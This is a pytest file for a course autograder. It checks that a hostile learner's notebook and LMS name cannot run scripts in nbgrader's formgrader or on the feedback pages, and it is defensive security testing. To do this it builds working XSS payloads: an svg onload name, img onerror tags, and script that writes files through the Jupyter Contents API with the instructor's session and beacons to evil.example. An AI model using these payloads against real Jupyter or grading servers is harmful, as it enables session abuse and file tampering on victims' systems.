"""No learner's markup or script runs in nbgrader's formgrader, nor on our feedback pages.

A class is collected from a Blackboard download and graded with ``python -m autograder grade``:
two honest learners (``Amy Ng, Jr.`` with the solution, Bo with the released stub) and
mallory, whose LMS name is an ``<svg onload=...>`` tag and whose notebook (the solution, so
that it scores) carries every route for markup a notebook offers: markdown with ``<img
onerror>``, ``<script>``, an external image and ``javascript:`` links, markup in math and in a
fence, raw cells (plain and ``text/html``), an SVG attachment, outputs of type text/html,
image/svg+xml, application/javascript and text/markdown, a markdown cell claiming a grade_id
that is markup, widget state in the notebook's metadata.  Each script would record itself
in ``window.__pwned``, write ``pwned-<route>.txt`` into the course folder through the Contents
API with the instructor's session (as the reported attack did), and load an image from
another host.

formgrader runs as a real Jupyter server in the course folder (tests/test_formgrader.py);
headless Chromium opens the submission list, the manual-grading list, the students' pages,
every submission's manual-grading page and the learners' feedback pages, with every
request watched.  No script may run (``window.__pwned`` unset, no dialog, no file written),
no request may leave the page (the one request to another host is formgrader's own MathJax
script), no request but GET may reach the server, the honest text must be readable there,
and every learner's score is exact.
"""
import time
from urllib.parse import urlsplit

import pytest

from autograder.cli import main as cli_main
from autograder.learnertext import inert_name

import lms_downloads as L
from test_browser import CHROMIUM, CHROMIUM_ARGS
from test_formgrader import TOKEN, _grade, _totals, formgrader, new_course  # noqa: F401  (formgrader: a fixture)
from test_learner_input import hostile_notebook
from classgen import build as B

pytestmark = pytest.mark.browser

REPO = B.REPO
POOLING_MAX = 18.0
HONEST = "My notes on pooling: the largest value in each window wins."
# formgrader's manual-grading page asks for MathJax itself (nbconvert's default address)
MATHJAX = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/"


def js(route, write=True):
    """A script with no space and no double quote (it fits an unquoted attribute and a name); with
    write, it writes a file through the Contents API (a name's has no comma: nbgrader's export
    would split it)."""
    put = (f"fetch('/api/contents/pwned-{route}.txt',{{method:'PUT',headers:{{'Content-Type':'application/json'}},"
           f"body:JSON.stringify({{type:'file',format:'text',content:'{route}'}})}});") if write else ""
    return (f"window.__pwned=(window.__pwned||[]).concat('{route}');{put}"
            f"new(Image)().src='http://evil.example/{route}'")


NAME = f"<svg/onload={js('name', write=False)}> Evil"


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    import nbformat
    base, course = new_course(tmp_path_factory, "formgrader-hostile")
    solution = (REPO / "solutions" / "cnn_layers" / "pooling.ipynb").read_bytes()
    stub = (REPO / "exercises" / "cnn_layers" / "pooling.ipynb").read_bytes()
    hostile = nbformat.writes(hostile_notebook(REPO / "solutions" / "cnn_layers" / "pooling.ipynb", js))
    z = L.blackboard(base / "blackboard.zip", [("amy", "Amy Ng, Jr.", "2026-03-01-10-00-00", "pooling.ipynb", solution),
                                               ("bo", "Bo Lee", "2026-03-01-10-00-00", "pooling.ipynb", stub),
                                               ("mallory", NAME, "2026-03-01-10-00-00", "pooling.ipynb", hostile)])
    assert cli_main(["collect", str(z), "--to", str(course / "submitted")]) == 0
    proc = _grade(course)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-3000:]
    return course


def test_no_learner_script_runs_in_formgrader_or_the_feedback_pages(course, formgrader):  # noqa: F811
    from playwright.sync_api import sync_playwright
    from nbgrader.api import Gradebook

    assert {s: float(r["score"]) for s, r in _totals(course).items()} == \
        {"amy": POOLING_MAX, "bo": 0.0, "mallory": POOLING_MAX}
    url = "sqlite:///" + str(course / "gradebook.db")
    with Gradebook(url, course_id="cnn_backprop") as gb:
        notebooks = {(s, nb): gb.find_submission_notebook(nb, "cnn_layers", s).id
                     for s in ("amy", "bo", "mallory") for nb in ("pooling", "convolution")}
    server = urlsplit(formgrader).netloc
    left, writes, dialogs, errors = [], [], [], []

    def watch(route):
        request = route.request
        parts = urlsplit(request.url)
        if parts.scheme == "file" or parts.netloc == server:
            if request.method != "GET":
                writes.append(f"{request.method} {request.url}")
            route.continue_()
        else:
            left.append(request.url)
            route.abort()

    def pwned(page):
        return page.evaluate("window.__pwned || null")

    seen, texts, boxes = {}, {}, 0
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(extra_http_headers={"Authorization": f"token {TOKEN}"})
            context.route("**/*", watch)
            page = context.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.on("pageerror", lambda exc: errors.append(str(exc)))

            page.goto(f"{formgrader}/formgrader/manage_submissions/cnn_layers")
            page.wait_for_selector("td.score:has-text('/')", timeout=60_000)
            rows = {page.locator("td.student-id").nth(i).inner_text().strip():
                    (page.locator("td.score").nth(i).inner_text().strip(),
                     page.locator("td.student-name").nth(i).inner_text().strip())
                    for i in range(page.locator("td.student-id").count())}
            seen["manage_submissions"] = pwned(page)
            for where in ("gradebook/cnn_layers/pooling", "manage_students", "manage_students/mallory",
                          "manage_students/mallory/cnn_layers"):
                page.goto(f"{formgrader}/formgrader/{where}")
                page.wait_for_load_state("networkidle", timeout=60_000)
                page.wait_for_timeout(500)
                seen[where] = pwned(page)
                texts[where] = page.locator("body").text_content()     # names are hidden until asked for
            for (student, nb), notebook_id in sorted(notebooks.items()):
                response = page.goto(f"{formgrader}/formgrader/submissions/{notebook_id}/")
                assert response.status == 200, (student, nb)
                page.wait_for_load_state("networkidle", timeout=60_000)
                page.wait_for_timeout(500)
                seen[f"submission {student} {nb}"] = pwned(page)
                if (student, nb) == ("mallory", "pooling"):
                    texts["shown"], texts["all"] = page.inner_text("body"), page.locator("body").text_content()
                    boxes = page.locator("input.score#maxpool_forward_basic").count()
            for student in ("amy", "bo", "mallory"):
                page.goto((course / "grading" / "feedback" / student / "cnn_layers.html").as_uri())
                page.wait_for_timeout(300)
                seen[f"feedback {student}"] = pwned(page)
            texts["feedback"] = page.inner_text("body")
        finally:
            browser.close()

    time.sleep(1)    # a write the Contents API had accepted would be on disk by now
    # nothing ran, nothing was written, nothing left the page
    ran = {k: v for k, v in seen.items() if v}
    written = sorted(str(p.relative_to(course)) for p in course.rglob("pwned*"))
    away = sorted({u for u in left if not u.startswith(MATHJAX)})
    assert {"ran": ran, "dialogs": dialogs, "written": written, "requests": writes, "left": away} == \
        {"ran": {}, "dialogs": [], "written": [], "requests": [], "left": []}
    assert [e for e in errors if "MathJax is not defined" not in e] == []
    # and everything honest is there to read: scores, names, the learner's text (markup as text)
    shown_name = "Evil, " + inert_name(NAME.split()[0], 128)
    assert rows == {"amy": ("18 / 47", "Ng, Jr., Amy"), "bo": ("0 / 47", "Lee, Bo"),
                    "mallory": ("18 / 47", shown_name)}, rows
    assert shown_name in texts["gradebook/cnn_layers/pooling"] and shown_name in texts["manage_students"]
    assert HONEST in texts["shown"] and "<img src=x onerror=\"window.__pwned=" in texts["shown"]
    assert "Hidden checks: passed" in texts["all"] and shown_name in texts["all"] and boxes == 1
    assert "Student: <svg/onload=window.__pwned=" in texts["feedback"]       # the name, as text


def test_the_feedback_pages_policy_would_stop_a_script_that_escaped_the_escaping(course, tmp_path):
    """Defence in depth: the feedback page's Content-Security-Policy blocks scripts and requests, so
    markup that got past the escaping (here: put in by hand) would still do nothing."""
    from playwright.sync_api import sync_playwright
    page_html = (course / "grading" / "feedback" / "mallory" / "cnn_layers.html").read_text(encoding="utf-8")
    injected = tmp_path / "injected.html"
    injected.write_text(page_html.replace("</body>", f"<script>{js('script')}</script>"
                                                     f"<img src=x onerror=\"{js('img')}\"></body>"),
                        encoding="utf-8")
    left = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context()
            context.route("**/*", lambda route: (left.append(route.request.url), route.abort())
                          if not route.request.url.startswith("file:") else route.continue_())
            page = context.new_page()
            page.goto(injected.as_uri())
            page.wait_for_timeout(500)
            assert page.evaluate("window.__pwned || null") is None
            assert "Feedback: cnn_layers" in page.inner_text("body")
        finally:
            browser.close()
    assert left == []
